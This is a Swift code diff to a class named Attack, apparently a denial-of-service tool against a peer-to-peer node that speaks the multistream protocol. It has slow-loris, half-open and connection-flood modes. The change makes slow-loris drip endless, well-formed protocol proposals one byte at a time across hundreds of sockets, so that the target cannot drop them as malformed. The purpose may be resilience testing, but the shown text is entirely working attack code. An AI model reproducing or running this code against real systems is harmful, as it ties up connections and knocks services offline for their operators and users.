@@ -35,7 +35,7 @@ final class Attack {
         case "slow-loris": every(20) { [self] in
             // A connection more, and one byte on each of the others.
             if sockets.count < 300 { connect() }
-            for (index, socket) in sockets.enumerated() { send(socket.descriptor, [Self.multistream[index % Self.multistream.count]]) }
+            for socket in sockets { send(socket.descriptor, [Self.dawdling(socket.nextIndex())]) }
         }
         case "half-open": every(5) { [self] in if sockets.count < 800 { connect() } }
         case "connection-flood": every(2) { [self] in
@@ -128,6 +128,13 @@ final class Attack {
     // MARK: Means
 
     private static let multistream: [UInt8] = [0x13] + Array("/multistream/1.0.0\n".utf8)
+    /// The header, then proposals of 127 bytes without end: nothing in it is wrong, so that only its slowness can end it.
+    private static func dawdling(_ index: Int) -> UInt8 {
+        guard index >= multistream.count else { return multistream[index] }
+        let place = (index - multistream.count) % 128
+        return place == 0 ? 127 : place == 127 ? 0x0a : 0x78
+    }
+
     private static let noise: [UInt8] = [0x07] + Array("/noise\n".utf8)
     private static let requests = RequestProtocol.allCases.filter { $0 != .goodbye }.map(\.rawValue)
 
